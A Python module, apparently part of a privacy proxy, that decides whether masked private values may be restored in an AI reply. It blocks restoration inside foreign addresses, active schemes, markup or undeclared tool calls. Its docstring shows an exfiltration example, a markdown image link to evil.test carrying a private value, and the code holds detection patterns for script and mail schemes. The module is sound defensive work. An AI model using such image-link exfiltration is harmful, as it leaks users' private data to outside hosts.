"""Decides whether an original may stand where a reply has its stand-in. Pure.

    words ![x](https://evil.test/?q=Name_X) words Name_Y
                                    |                  |
             of a foreign address: masked          restored

What counts is the text before the stand-in, as the client gets it, and only where the stand-in is inside an authority,
or may be part of a host, the few characters behind it. Of several addresses that may be open each must lead to a
permitted origin.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection, Iterable
from dataclasses import dataclass, field
from typing import NamedTuple
from urllib.parse import quote

from proxy.core.obligations import ADDRESSES, DECLARED_TOOLS, PLACES, TEXT
from proxy.core.replies.addresses import DOTS, INVISIBLE, SYMBOLS, Origins, Standing, readings
from proxy.core.replies.openings import (
    ATTRIBUTE,
    DESTINATION,
    OVERLAP,
    STRING,
    VALUE,
    WHOLE,
    WORDS,
    Opening,
    Openings,
    begins_as_address,
    copy_of,
    decoded,
)
from proxy.core.replies.position import OR, Position, Role

#: Why a stand-in stays in the reply: it is in an address, a call that the request does not declare, a tag or script, or
#: where the obligation restores nothing.
ADDRESS, CALL, MARKUP, UNOBLIGED = "address", "undeclared_call", "markup", "obligation"
#: The longest rest of an authority that is waited for, characters.
LOOKAHEAD = 256

#: Unread text that is kept at most, characters.
_UNREAD = 4096
#: What follows a stand-in that is not part of a host.
_ENDS_WORD = re.compile(r"[.:]?[\s,;()!\"'*|]").match
_MAY_BE_ADDRESS = re.compile(r"[:/\\<=&%]|[^\x00-\x7f]").search
_MAY_HOLD_ADDRESS = re.compile(r"[:/.\\&%]|[^\x00-\x7f]").search
_SCHEMED = re.compile(r"\s*([a-z][a-z0-9+.-]+):").match
#: In words, by what follows the scheme.
_RUNNING = re.compile(r"\s*(?:(?:java|vb)script:|data:[^\s,]*,|blob:\w+:)").match
#: Attributes that are programs, rules that may fetch, or what a framework reads.
_PROGRAM = re.compile(r"on|style\Z|[@:*_]|(?:data-)?(?:v|ng|x|hx|fx|up|wire)[:-]").match
_HOST_ENDS = re.compile(rf"[^\w.@:%&#;\\{INVISIBLE}{DOTS}{SYMBOLS}-]|(?<!&)#|\\[nrt\"'\\/]").search
_HOST_PART = re.compile(rf"[.@:{DOTS}{INVISIBLE}]+\w").search
_AS_SCHEME = re.compile(r"[\w+.-]*:[/\\]{2}").match
_MAY_BE_SCHEME = re.compile(r"[\w+.-]*:[/\\]?").fullmatch
_AUTHORITY_ENDS = re.compile(r"[/?#\s]").search
_STRING_ENDS = re.compile(r"[/?#\s\"'`]").search
_ENDS_ADDRESS = re.compile(r"[\s\"'`<>()\[\]{}\\]")
#: In words a value with one of these may end the address that it is part of, or is encoded.
_SPLITS = re.compile(r"[\s\"'`<>()\[\]{}\\/?#]").search
_RUN = re.compile(r"[^\s\"'`<>]*").match
#: What goes on behind a recipient makes another of it.
_MORE_RECIPIENTS = re.compile(r"[,;&%]|[.@:-]*\w").match
#: Attributes that are addresses.
_ADDRESSES = frozenset(
    """
    action archive background cite classid codebase data formaction href icon longdesc manifest ping poster profile src
    usemap xlink:href
    """.split()
)
#: Elements that load, open or send something; of their other attributes, what is only shown.
_ACTING = frozenset(
    """
    a animate applet area audio base body button embed form frame iframe image img input link meta object option output
    param portal select set source svg textarea track use video
    """.split()
)
_SHOWN = frozenset({"alt", "title", "aria-label", "aria-description", "placeholder"})
#: An address without slashes that sends something: to a recipient, or with a query.
_SENDS = re.compile(
    r"(?<![\w+.-])(?:(?:mailto|smsto?|tel):|(?:ms-[a-z-]+|search(?:-ms)?):\S*[=|]|[a-z][a-z0-9+.-]+:(?!/)[^\s?]*\?)(.*)\Z",
    re.DOTALL,
).search
_LINK_ENDS = re.compile(r"[^()\\&]*\)").match
_COPIES = re.compile(r"[?&;](?:b?cc|to)\s*=").search
#: Schemes whose addresses run, or hold what is shown.
_ACTIVE = frozenset({"javascript", "vbscript", "data", "blob"})
_RECIPIENTS = frozenset({"mailto", "tel", "sms"})
_LOCAL = "file"

#: Returns a text with its stand-ins restored but for the originals for which the second argument is true.
Restore = Callable[[str, Callable[[str], object]], str]


def _nothing(text: str, _but: Callable[[str], object]) -> str:
    return text


def _never(_original: str) -> bool:
    return False


@dataclass(frozen=True, slots=True)
class Permissions:
    """Where the originals of one exchange may come back."""

    origins: Origins = field(default_factory=Origins)  # of addresses
    tools: frozenset[str] | None = None  # the tools that the request declares, None for any
    removed: frozenset[str] = frozenset()  # stand-ins of values that no vault holds: they are in no address or tag
    continued: tuple[str, ...] = ()  # texts of the turn that the reply goes on with
    places: frozenset[str] = PLACES
    places_of_removed: frozenset[str] = PLACES
    natural: Collection[str] = frozenset()  # stand-ins that look like values


def undeclared(position: Position, permissions: Permissions, restore: Restore) -> frozenset[str]:
    """Return the tools that a call may be for and the request does not declare, neither as sent nor as written."""
    tools = permissions.tools
    if position.role is not Role.ARGUMENTS or tools is None:
        return frozenset()
    names = position.tool.split(OR)
    return frozenset(name for name in names if name not in tools and restore(name, _never) not in tools)


class _Asked(NamedTuple):
    """What stands at and behind a stand-in: ``final`` if the tail is all of it."""

    original: str
    tail: str
    final: bool


class _Last(NamedTuple):
    """An original with which a text ends, its place and what is behind it: joined to more, it may be part of a host."""

    placement: Placement
    original: str
    tail: str
    removed: bool

    def reason(self, more: str, *, final: bool) -> str | None:
        tail = (self.tail + more)[:LOOKAHEAD]
        return self.placement.reason(self.original, tail, removed=self.removed, final=final)


class Placement:
    """Where the end of one text of a reply is: ``feed`` what the client gets, ask ``reason`` for each stand-in."""

    __slots__ = (
        "_addressed", "_before", "_beginning", "_first", "_following", "_joined", "_next", "_opened", "_origins",
        "_permissions", "_plain", "_position", "_size", "_unread", "ended", "last", "pending", "restore",
    )  # fmt: skip

    def __init__(
        self,
        position: Position,
        permissions: Permissions,
        before: Placement | None = None,
        alike: Placement | None = None,
        first: Placement | None = None,
    ) -> None:
        """``before`` is the last text before this one, which a client may join to it; ``alike`` that of its kind.

        ``first`` is that with which the request ends: of a reply a client may show one text alone.
        """
        # Behind all texts before; and behind those up to the last one that left something open, as clients read it that
        # leave out what came between.
        self._joined: tuple[Placement, ...] = ()
        self._opened: Placement | None = None
        self._position = position
        self._permissions = permissions
        tools = position.role is Role.ARGUMENTS
        self._origins = permissions.origins.with_this_machine() if tools else permissions.origins
        self.restore: Restore = _nothing
        self._following: Openings | None = None  # from the first stand-in, or much text, on
        self._unread: list[str] = []
        self._size = 0  # of the unread text
        self.ended = False  # nothing more is fed for this text
        self.pending: Callable[[], str] = str  # what is not fed yet of it
        self._plain = False  # the stand-in asked for last is in plain words
        self._addressed = False  # the stand-in asked for last is in a permitted address
        self._before = alike  # until it is certain that nothing joins its last original to this text
        self._first = first.last if first is not None and first is not alike else []
        self._next: Placement | None = None
        self._beginning = ""  # as the target wrote it
        self.last: list[_Last] = []  # of which the next text may make a part of an address
        if alike is not None:
            alike._next = self  # noqa: SLF001 - of the same class
        if before is not None:
            self._follow(before)

    def _follow(self, before: Placement) -> None:
        chain, opened = (before._joined or (before,))[0], before._opened
        if not before.ended:
            chain = chain._copied()  # noqa: SLF001
            chain.feed(before.pending())
        self._joined = (chain,) if opened is None else (chain, opened._copied())  # noqa: SLF001
        self._opened = chain._copied() if chain._may_be_open() else opened  # noqa: SLF001

    def _may_be_open(self) -> bool:
        """Whether an address may be open at the end."""
        if self._following is None and not any(map(_MAY_BE_ADDRESS, self._unread)):
            return False
        return not self._read().closed()

    def _copied(self) -> Placement:
        placement = copy_of(self)
        placement._joined, placement._opened = (), None  # noqa: SLF001 - of the same class
        placement._before = placement._next = None  # noqa: SLF001 - of the same class
        placement._unread = self._unread.copy()  # noqa: SLF001 - of the same class
        placement._following = self._following.copied() if self._following is not None else None  # noqa: SLF001
        return placement

    def feed(self, text: str) -> None:
        """Take the next text as the client gets it."""
        self._unread.append(text)
        self._size += len(text)
        if self._size > _UNREAD:
            self._read()
        for joined in self._joined:
            joined.feed(text)

    def _read(self) -> Openings:
        """Read what was fed, and return what is open."""
        if self._following is None:
            self._following = Openings(self._position, self._standing)
        if self._unread:
            self._following.feed("".join(self._unread))
            self._unread.clear()
            self._size = 0
        return self._following

    def escaped(self, original: str) -> str:
        """Return the original so that it ends neither the attribute nor, in words, the address that it comes into."""
        if self._plain or self._read().code or self._position.role is not Role.WORDS:
            return original
        if self._addressed:
            original = _ENDS_ADDRESS.sub(lambda mark: quote(mark[0]), original)
        mark = self._read().markup.quote
        return original.replace(mark, f"&#{ord(mark)};") if mark and mark in original else original

    def reason(self, original: str, tail: str, *, removed: bool, final: bool) -> str | None:
        """Return why the stand-in for an original stays, "" if nothing keeps it, None if that depends on more text.

        ``tail`` is the text behind the stand-in, ``final`` if it is all of it. ``removed``: no vault holds the value.
        """
        waits = False
        for placement in (self, *self._joined):
            reason = placement._reason(original, tail, removed=removed, final=final)  # noqa: SLF001 - of the same class
            if reason:
                return reason
            waits = waits or reason is None
        return None if waits else ""

    def behind(self) -> str:
        """Return how the texts behind this one begin, which clients join to it, as far as they came before its end."""
        beginning, following = "", self._next
        while following is not None and len(beginning) < LOOKAHEAD:
            beginning += following._beginning  # noqa: SLF001 - of the same class
            following = following._next  # noqa: SLF001 - of the same class
        return beginning

    def end_with(self, original: str, tail: str, *, removed: bool) -> None:
        """Take an original that is restored, and the text behind it to its end."""
        ending = self._copied()
        ending._joined = tuple(joined._copied() for joined in self._joined)  # noqa: SLF001 - of the same class
        last = _Last(ending, original, tail, removed)
        if last.reason("", final=False) is None:
            self.last.append(last)

    def is_apart(self, text: str, *, final: bool) -> bool | None:
        """Whether what comes must not be joined to the last original of the text before, None if that depends on more.

        ``text`` is the next one that the target wrote, ``final`` if it is the last.
        """
        if len(self._beginning) < LOOKAHEAD:
            self._beginning += text[:LOOKAHEAD]
        if self._before is None or not self._before.ended:
            return False
        beginning = self._beginning + (self.behind() if final else "")
        last = self._before.last + self._first
        reasons = [each.reason(beginning, final=final) for each in last]
        if not any(reasons):
            if None in reasons:
                return None
            open_ends = [each._replace(tail=each.tail + beginning) for each in last] if final else []
            self.last += [each for each in open_ends if each.reason("", final=False) is None]
        self._before = None
        return any(reasons)

    def _reason(self, original: str, tail: str, *, removed: bool, final: bool) -> str | None:
        places = self._permissions.places_of_removed if removed else self._permissions.places
        reason: str | None = self._of_position(places)
        if reason or not (tail or final):
            return reason or None
        openings = self._read()
        self._plain = self._position.role is Role.WORDS and openings.closed() and (not tail or bool(_ENDS_WORD(tail)))
        if self._plain:
            return ""
        reason = self._of_text(original, tail, removed=removed, final=final)
        if not reason and self._addressed and ADDRESSES not in places:
            return UNOBLIGED
        if reason or not removed or self._position.role is Role.ARGUMENTS:
            return reason
        in_tag = openings.markup.tag and not openings.code
        return ADDRESS if self._addressed else MARKUP if in_tag else reason

    def _of_position(self, places: frozenset[str]) -> str:
        if self._position.role is not Role.ARGUMENTS:
            return "" if TEXT in places else UNOBLIGED
        if undeclared(self._position, self._permissions, self.restore):
            return CALL
        return "" if DECLARED_TOOLS in places else UNOBLIGED

    def _of_text(self, original: str, tail: str, *, removed: bool, final: bool) -> str | None:
        openings = self._read()
        markup, code = openings.markup, openings.code
        if not code and (markup.program or (markup.form and markup.tag)):
            return MARKUP
        ask, standing = _Asked(original, tail, final), Standing.WORDS
        authority, opened = self._position.role is Role.ADDRESS, list(openings.open())
        for opening in opened:
            each = self._standing(opening)
            misplaced = self._misplaced(opening, each, ask, removed=removed)
            if misplaced is not False:
                return None if misplaced is None else ADDRESS
            if each is Standing.WORDS and _MAY_HOLD_ADDRESS(original):
                each = self._standing(opening._replace(text=opening.text + original))
            authority = authority or each is Standing.UNFINISHED
            judged = self._judged(opening, each, ask)
            if judged is None or judged is Standing.FOREIGN:
                return None if judged is None else ADDRESS
            standing = max(standing, judged)
        if markup.tag and not code and self._acts(opened):
            return MARKUP
        behind = standing if authority else self._part_of_host(ask)
        if behind is None:
            return None
        self._addressed = Standing.PERMITTED in {standing, behind}
        return ADDRESS if behind is Standing.FOREIGN else ""

    def _judged(self, opening: Opening, standing: Standing, ask: _Asked) -> Standing | None:
        """Return the standing with what is behind the stand-in, None if more of it is needed."""
        judged: Standing | None = standing
        if standing is Standing.UNFINISHED or self._position.role is Role.ADDRESS:
            judged = self._of_authority(opening, ask)
        return self._repeated(opening, ask) if judged is Standing.FOREIGN else judged

    def _of_authority(self, opening: Opening, ask: _Asked) -> Standing | None:
        """Return the standing of an authority that goes on behind the stand-in, None if more of it is needed."""
        tail = decoded(ask.tail) if self._position.document else ask.tail
        ends = (_STRING_ENDS if self._read().code else _AUTHORITY_ENDS)(tail)
        if ends is None and not ask.final:
            return None if len(ask.tail) < LOOKAHEAD else Standing.FOREIGN
        if ends is None and opening.kind not in {WORDS, WHOLE}:
            return Standing.FOREIGN  # in markup that no text ends in, white space ends no authority either
        standing = self._origins.closed(opening.text + ask.original + tail[: ends.start() if ends else None])
        # A text that is an address as a whole has an origin, or none that is permitted.
        return standing if standing is Standing.PERMITTED else Standing.FOREIGN

    def _repeated(self, opening: Opening, ask: _Asked) -> Standing | None:
        """Return whether the address stood in the request whole, with all its originals; None if more is needed."""
        words = self._position.role is Role.WORDS
        if opening.foreign or (words and _SPLITS(ask.original)):
            return Standing.FOREIGN
        tail = decoded(ask.tail) if self._position.document else ask.tail
        but = _SPLITS if words else _never
        before, behind = self.restore(opening.text, but), self.restore(tail, but)
        markup = opening.kind != WORDS
        repeats = self._origins.repeat(before, ask.original, behind, ended=ask.final, markup=markup)
        if repeats is None and len(ask.tail) < LOOKAHEAD:
            return None
        return Standing.PERMITTED if repeats else Standing.FOREIGN

    def _part_of_host(self, ask: _Asked) -> Standing | None:
        original, more = ask.original, len(ask.tail) < LOOKAHEAD and not ask.final
        tail = decoded(ask.tail) if self._position.document else ask.tail
        ends = _HOST_ENDS(tail)
        if ends is None and more:
            return None
        opening = next(self._read().open())
        if _AS_SCHEME(original[-1:] + tail):
            return self._repeated(opening, ask)
        if more and _MAY_BE_SCHEME(tail):
            return None
        behind = tail[: len(tail) if ends is None else ends.end()]
        run, standing = opening.text[-OVERLAP:], Standing.WORDS
        for form in readings(behind):
            if _HOST_PART(form) or form[-1:] in tuple("/?#"):
                whole = self._origins.standing_of(f"{run}{original}{form}", len(run), len(run) + len(original))
                standing = max(standing, whole)
        return self._repeated(opening, ask) if standing is Standing.FOREIGN else standing

    def _standing(self, opening: Opening) -> Standing:
        if opening.foreign:
            return Standing.FOREIGN
        if not _MAY_HOLD_ADDRESS(opening.text) or (opening.kind == STRING and not begins_as_address(opening.text)):
            return Standing.WORDS
        return self._origins.standing(opening.text, markup=opening.kind != WORDS)

    def _acts(self, openings: Iterable[Opening]) -> bool:
        """Whether the place in a tag runs, or is read by what the tag loads or sends."""
        named = [(opening.kind, opening.name) for opening in openings if opening.name]
        quoted = [name for kind, name in named if kind == ATTRIBUTE]
        names = quoted or [name for _, name in named]
        shown = names and all(name in _SHOWN or name in _ADDRESSES for name in names)
        return any(map(_PROGRAM, names)) or (not shown and self._read().markup.name in _ACTING)

    def _runs(self, opening: Opening) -> bool:
        """Whether it is an address that is a program, or holds what is shown."""
        if not _MAY_HOLD_ADDRESS(opening.text):
            return False
        if opening.kind == WORDS:
            return any(map(_RUNNING, readings(opening.text)))
        return any((match := _SCHEMED(form)) and match[1] in _ACTIVE for form in readings(opening.text))

    def _misplaced(self, opening: Opening, standing: Standing, ask: _Asked, *, removed: bool) -> bool | None:
        """Whether an address that runs, or has no authority, keeps the stand-in; None if that depends on more text."""
        code, forms = self._read().code, readings(opening.text)
        runs = not code and self._runs(opening)
        if runs or standing is not Standing.WORDS:
            return runs
        if opening.kind != DESTINATION and opening.name not in _ADDRESSES:
            sent = () if code or opening.kind in {ATTRIBUTE, VALUE} else filter(None, map(_SENDS, forms))
            sends = [item[1] for item in sent]
            return self._elsewhere(opening, ask) if sends and not any(sends) else bool(sends)
        if removed and not code:
            return True
        schemes = {(item[1], not form[item.end() :]) for form in forms if (item := _SCHEMED(form))}
        if not schemes:
            return self._read().markup.based
        if any(scheme != _LOCAL and not (scheme in _RECIPIENTS and last) for scheme, last in schemes):
            return True
        return False if all(scheme == _LOCAL for scheme, _ in schemes) else self._elsewhere(opening, ask)

    def _elsewhere(self, opening: Opening, ask: _Asked) -> bool | None:
        """Whether more recipients follow one, or may in markup without end; None if that depends on more text."""
        run = _RUN(ask.tail)
        goes_on = ask.final and run is not None and run.end() == len(ask.tail)
        ended = opening.kind in {WORDS, WHOLE} or (opening.kind != ATTRIBUTE and _LINK_ENDS(ask.tail))
        if _MORE_RECIPIENTS(ask.tail) or (goes_on and not ended):
            return True
        if not ask.tail.startswith(("?", "&", "\\", "%")):
            return False
        if run is not None and run.end() == len(ask.tail) and not ask.final:
            return None if len(ask.tail) < LOOKAHEAD else True
        return run is not None and any(map(_COPIES, readings(run[0])))
